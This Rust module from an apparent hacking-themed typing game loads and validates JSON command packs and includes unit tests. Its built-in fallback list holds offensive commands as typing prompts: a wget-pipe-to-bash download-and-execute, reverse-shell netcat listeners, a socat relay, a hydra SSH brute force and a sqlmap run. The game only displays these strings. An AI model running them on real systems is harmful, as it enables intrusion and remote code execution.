//! Content packs: the commands a run draws from.
//!
//! Pack files are JSON. Anything read from disk goes through the
//! normalisation here, so the rest of the game can rely on every command
//! having a non-empty, trimmed command string that is also its first
//! accepted variant.

pub mod queue;
pub mod source;

use itertools::Itertools;
use serde_json::Value;

use crate::error::PackError;

pub use queue::CommandQueue;
pub use source::{
    load_with_fallback, BuiltinPackSource, DirPackSource, PackLoad, PackSource, DEFAULT_PACK_ID,
};

const DEFAULT_DESCRIPTION: &str = "No description available.";
const DEFAULT_TITLE: &str = "Command Pack";
const DEFAULT_SUMMARY: &str = "Quick-fire commands for a HackType run.";
const DEFAULT_DIFFICULTY: &str = "mixed";

const FALLBACK_COMMANDS: &[&str] = &[
    "ls",
    "pwd",
    "cd",
    "clear",
    "whoami",
    "id",
    "hostname",
    "uname -a",
    "date",
    "uptime",
    "ifconfig",
    "ip a",
    "ip route",
    "ping -c 1 8.8.8.8",
    "traceroute 8.8.8.8",
    "netstat -tulpn",
    "ss -tulwn",
    "ps aux",
    "top",
    "htop",
    "journalctl -xe",
    "dmesg | tail",
    "tail -f /var/log/auth.log",
    "grep -R \"password\" /etc",
    "find / -perm -4000",
    "locate shadow",
    "chmod +x exploit.sh",
    "chown root:root /bin/bash",
    "ln -s /bin/sh /tmp/sh",
    "tar -czvf backup.tar.gz /var/www",
    "gzip -d logs.gz",
    "scp file.txt user@10.0.0.5:/tmp/",
    "ssh user@10.0.0.5",
    "rsync -avz . user@host:/srv/",
    "curl -s http://10.10.10.10",
    "wget http://example.com/shell.sh",
    "python3 -m http.server 8000",
    "nc -lvnp 4444",
    "rlwrap nc -lvnp 4444",
    "socat TCP-LISTEN:4444,reuseaddr,fork TCP:10.0.0.1:4444",
    "ssh -L 8080:localhost:80 user@10.0.0.5",
    "proxychains nmap -sT 10.10.10.10",
    "nmap -sC -sV 10.10.10.10",
    "sudo nmap 10.10.15.100 -sV -sC -p- -v -Pn",
    "hydra -l admin -P rockyou.txt 10.0.0.5 ssh",
    "gobuster dir -u http://10.10.10.10 -w /usr/share/wordlists/dirb/common.txt",
    "feroxbuster -u http://target -w wordlist.txt",
    "sqlmap -u \"http://target/id=1\" --batch",
    "msfconsole -q -x \"use exploit/multi/handler\"",
    "wget -qO- http://10.10.10.10/shell.sh | bash",
];

/// (command, description, mock output) for the guided tutorial.
const TUTORIAL_STEPS: &[(&str, &str, &str)] = &[
    (
        "pwd",
        "Step 1: always know where you are. Run `pwd` to print the working directory.",
        "/home/analyst\n",
    ),
    (
        "ls",
        "Step 2: look around with `ls`. Useful after every pivot.",
        "README.md\nnotes\nscripts\n",
    ),
    (
        "ls -la",
        "Step 3: add flags to reveal hidden files. Use `ls -la` here.",
        "drwxr-xr-x  4 analyst analyst  128 .\ndrwxr-xr-x 14 root    root     512 ..\n-rw-r--r--  1 analyst analyst 1024 .bashrc\n",
    ),
    (
        "cat recon.txt",
        "Step 4: read your notes with `cat`. Type the command exactly.",
        "[Recon]\n- ping sweep\n- nmap -sC -sV\n- quick http enum\n",
    ),
];

#[derive(Debug, Clone, PartialEq)]
pub struct CommandEntry {
    pub id: String,
    pub command: String,
    /// Always starts with `command`; never empty.
    pub accepted_variants: Vec<String>,
    pub description: String,
    pub description_long: Option<String>,
    pub mock_output: String,
    pub tags: Vec<String>,
    pub points_multiplier: Option<f64>,
}

impl CommandEntry {
    /// A bare command with no variants or metadata.
    pub fn plain(id: impl Into<String>, command: &str) -> Self {
        let command = command.trim().to_string();
        Self {
            id: id.into(),
            accepted_variants: vec![command.clone()],
            command,
            description: DEFAULT_DESCRIPTION.to_string(),
            description_long: None,
            mock_output: String::new(),
            tags: Vec::new(),
            points_multiplier: None,
        }
    }

    /// Ordered candidate strings for the typing evaluator.
    pub fn candidates(&self) -> &[String] {
        &self.accepted_variants
    }

    /// Build an entry from loosely shaped JSON. Returns `None` when there is
    /// no usable command string.
    pub fn from_value(value: &Value, index: usize) -> Option<Self> {
        let command = match value {
            Value::Object(map) => map.get("command").and_then(as_text)?,
            other => as_text(other)?,
        };
        let command = command.trim().to_string();
        if command.is_empty() {
            return None;
        }

        let field = |key: &str| value.get(key).filter(|v| !v.is_null());

        let variants = field("accepted_variants")
            .and_then(Value::as_array)
            .map(|items| items.iter().filter_map(as_text).collect::<Vec<_>>())
            .unwrap_or_default();
        let accepted_variants = std::iter::once(command.clone())
            .chain(variants)
            .map(|v| v.trim().to_string())
            .filter(|v| !v.is_empty())
            .unique()
            .collect();

        let tags = field("tags")
            .and_then(Value::as_array)
            .map(|items| {
                items
                    .iter()
                    .filter_map(as_text)
                    .map(|t| t.trim().to_lowercase())
                    .filter(|t| !t.is_empty())
                    .unique()
                    .collect()
            })
            .unwrap_or_default();

        Some(Self {
            id: field("id")
                .and_then(as_text)
                .unwrap_or_else(|| format!("cmd-{index}")),
            command,
            accepted_variants,
            description: field("description")
                .and_then(as_text)
                .unwrap_or_else(|| DEFAULT_DESCRIPTION.to_string()),
            description_long: field("description_long").and_then(as_text),
            mock_output: field("mock_output").and_then(as_text).unwrap_or_default(),
            tags,
            points_multiplier: field("points_multiplier")
                .and_then(Value::as_f64)
                .filter(|m| m.is_finite() && *m > 0.0),
        })
    }
}

#[derive(Debug, Clone, PartialEq)]
pub struct CommandPack {
    pub pack_id: String,
    pub title: String,
    pub summary: String,
    pub difficulty: String,
    /// Never empty.
    pub commands: Vec<CommandEntry>,
}

impl CommandPack {
    pub fn from_json_str(json: &str, fallback_id: &str) -> Result<Self, PackError> {
        let value: Value = serde_json::from_str(json).map_err(|source| PackError::Json {
            pack_id: fallback_id.to_string(),
            source,
        })?;
        Self::from_value(&value, fallback_id)
    }

    /// Validate and normalise a pack. Unusable command entries are skipped;
    /// a pack left with no commands is rejected.
    pub fn from_value(value: &Value, fallback_id: &str) -> Result<Self, PackError> {
        if !value.is_object() {
            return Err(PackError::Shape(fallback_id.to_string()));
        }
        let text = |key: &str| value.get(key).and_then(as_text);

        let commands: Vec<CommandEntry> = value
            .get("commands")
            .and_then(Value::as_array)
            .map(|items| {
                items
                    .iter()
                    .enumerate()
                    .filter_map(|(index, item)| CommandEntry::from_value(item, index))
                    .collect()
            })
            .unwrap_or_default();

        let pack_id = text("packId").unwrap_or_else(|| fallback_id.to_string());
        if commands.is_empty() {
            return Err(PackError::Empty(pack_id));
        }

        Ok(Self {
            pack_id,
            title: text("title").unwrap_or_else(|| DEFAULT_TITLE.to_string()),
            summary: text("summary").unwrap_or_else(|| DEFAULT_SUMMARY.to_string()),
            difficulty: text("difficulty").unwrap_or_else(|| DEFAULT_DIFFICULTY.to_string()),
            commands,
        })
    }

    /// Pack built into the binary for when nothing else can be loaded.
    pub fn fallback(pack_id: &str) -> Self {
        Self {
            pack_id: pack_id.to_string(),
            title: "Fallback Ops".to_string(),
            summary: "Built-in command list, used when the pack could not be loaded.".to_string(),
            difficulty: DEFAULT_DIFFICULTY.to_string(),
            commands: FALLBACK_COMMANDS
                .iter()
                .enumerate()
                .map(|(i, command)| {
                    let mut entry = CommandEntry::plain(format!("fallback-{i}"), command);
                    entry.description = "Fallback command from the built-in list.".to_string();
                    entry
                })
                .collect(),
        }
    }

    pub fn tutorial() -> Self {
        Self {
            pack_id: "tutorial".to_string(),
            title: "Tutorial".to_string(),
            summary: "Four guided commands to learn the controls.".to_string(),
            difficulty: "beginner".to_string(),
            commands: TUTORIAL_STEPS
                .iter()
                .map(|(command, description, output)| CommandEntry {
                    id: format!("tutorial-{}", command.replace(' ', "-")),
                    description: description.to_string(),
                    mock_output: output.to_string(),
                    description_long: Some(format!("Type: {command}")),
                    ..CommandEntry::plain("", command)
                })
                .collect(),
        }
    }

    pub fn len(&self) -> usize {
        self.commands.len()
    }

    pub fn is_empty(&self) -> bool {
        self.commands.is_empty()
    }
}

fn as_text(value: &Value) -> Option<String> {
    match value {
        Value::String(s) => Some(s.clone()),
        Value::Number(n) => Some(n.to_string()),
        Value::Bool(b) => Some(b.to_string()),
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use assert_matches::assert_matches;
    use serde_json::json;

    #[test]
    fn test_entry_normalisation() {
        let entry = CommandEntry::from_value(
            &json!({
                "id": "nmap-basic",
                "command": "  nmap -sC -sV 10.10.10.10 ",
                "accepted_variants": ["nmap -sV -sC 10.10.10.10", "", "nmap -sC -sV 10.10.10.10", 42],
                "tags": ["Recon", " recon ", "NMAP"],
                "mock_output": "22/tcp open ssh",
                "points_multiplier": 1.5
            }),
            3,
        )
        .unwrap();

        assert_eq!(entry.id, "nmap-basic");
        assert_eq!(entry.command, "nmap -sC -sV 10.10.10.10");
        assert_eq!(
            entry.accepted_variants,
            vec!["nmap -sC -sV 10.10.10.10", "nmap -sV -sC 10.10.10.10", "42"]
        );
        assert_eq!(entry.tags, vec!["recon", "nmap"]);
        assert_eq!(entry.description, DEFAULT_DESCRIPTION);
        assert_eq!(entry.points_multiplier, Some(1.5));
    }

    #[test]
    fn test_plain_string_entry() {
        let entry = CommandEntry::from_value(&json!("whoami"), 7).unwrap();
        assert_eq!(entry.id, "cmd-7");
        assert_eq!(entry.candidates(), ["whoami".to_string()]);
    }

    #[test]
    fn test_unusable_entries_are_skipped() {
        assert!(CommandEntry::from_value(&json!(null), 0).is_none());
        assert!(CommandEntry::from_value(&json!("   "), 0).is_none());
        assert!(CommandEntry::from_value(&json!({"description": "no command"}), 0).is_none());
        assert!(CommandEntry::from_value(&json!(["ls"]), 0).is_none());
    }

    #[test]
    fn test_pack_defaults() {
        let pack = CommandPack::from_value(&json!({"commands": ["ls", null, "pwd"]}), "mine").unwrap();
        assert_eq!(pack.pack_id, "mine");
        assert_eq!(pack.title, DEFAULT_TITLE);
        assert_eq!(pack.difficulty, "mixed");
        assert_eq!(pack.len(), 2);
        assert_eq!(pack.commands[1].id, "cmd-2");
    }

    #[test]
    fn test_pack_rejects_bad_shapes() {
        assert_matches!(
            CommandPack::from_value(&json!([1, 2]), "x"),
            Err(PackError::Shape(id)) if id == "x"
        );
        assert_matches!(
            CommandPack::from_value(&json!({"packId": "empty", "commands": []}), "x"),
            Err(PackError::Empty(id)) if id == "empty"
        );
        assert_matches!(
            CommandPack::from_value(&json!({"commands": "ls"}), "x"),
            Err(PackError::Empty(_))
        );
        assert_matches!(
            CommandPack::from_json_str("{not json", "broken"),
            Err(PackError::Json { pack_id, .. }) if pack_id == "broken"
        );
    }

    #[test]
    fn test_fallback_pack() {
        let pack = CommandPack::fallback("beginner");
        assert_eq!(pack.pack_id, "beginner");
        assert_eq!(pack.len(), FALLBACK_COMMANDS.len());
        assert!(pack
            .commands
            .iter()
            .all(|c| c.candidates().first() == Some(&c.command)));
    }

    #[test]
    fn test_tutorial_pack_order() {
        let pack = CommandPack::tutorial();
        let commands: Vec<&str> = pack.commands.iter().map(|c| c.command.as_str()).collect();
        assert_eq!(commands, vec!["pwd", "ls", "ls -la", "cat recon.txt"]);
        assert_eq!(pack.commands[2].id, "tutorial-ls--la");
        assert!(!pack.commands[0].mock_output.is_empty());
    }
}
